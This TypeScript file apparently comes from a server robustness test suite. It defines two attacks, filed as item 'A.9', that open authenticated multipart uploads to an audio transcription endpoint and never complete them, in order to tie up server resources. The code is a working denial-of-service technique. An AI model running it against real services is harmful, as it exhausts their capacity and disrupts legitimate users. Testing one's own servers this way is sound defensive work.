import { request } from "node:http";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, sessions, type Victim } from "../attack.ts";

const BOUNDARY = "abuse";
const HEAD = Buffer.from(
  `--${BOUNDARY}\r\ncontent-disposition: form-data; name="file"; filename="a.wav"\r\n\r\n`,
);
const PIECE = Buffer.alloc(1024 * 1024);
const HELD_MS = 5000;

/** Begins to send a recording and never ends; of so many megabytes, or for ever where no length is told. */
function uploadForEver(
  victim: Victim,
  credential: string,
  requests: DisposableStack,
  megabytes: number | undefined,
): void {
  const upload = request(new URL("/v1/audio/transcriptions", victim.url), {
    method: "POST",
    agent: false,
    headers: {
      authorization: `Bearer ${credential}`,
      "content-type": `multipart/form-data; boundary=${BOUNDARY}`,
      ...(megabytes !== undefined && { "content-length": (megabytes + 1) * PIECE.length }),
    },
  });
  requests.defer(() => void upload.destroy());
  upload.on("error", () => undefined).on("response", (answer) => answer.resume());
  upload.write(HEAD);
  let sent = 0;
  const more = (): void => {
    while (!upload.destroyed && sent < (megabytes ?? Infinity)) {
      sent += 1;
      if (upload.write(PIECE)) continue;
      upload.once("drain", more);
      return;
    }
  };
  more();
}

function uploads(count: number, megabytes?: number): Attack["strike"] {
  return async (victim) => {
    using requests = new DisposableStack();
    for (const credential of await sessions(victim, count)) {
      uploadForEver(victim, credential, requests, megabytes);
    }
    await sleep(HELD_MS);
  };
}

export const unfinishedUploads: Attack = {
  item: "A.9",
  name: "six uploads of 50 MB that do not end",
  strike: uploads(6, 50),
};

export const chunkedUploads: Attack = {
  item: "A.9",
  name: "two chunked forms without end",
  strike: uploads(2),
};
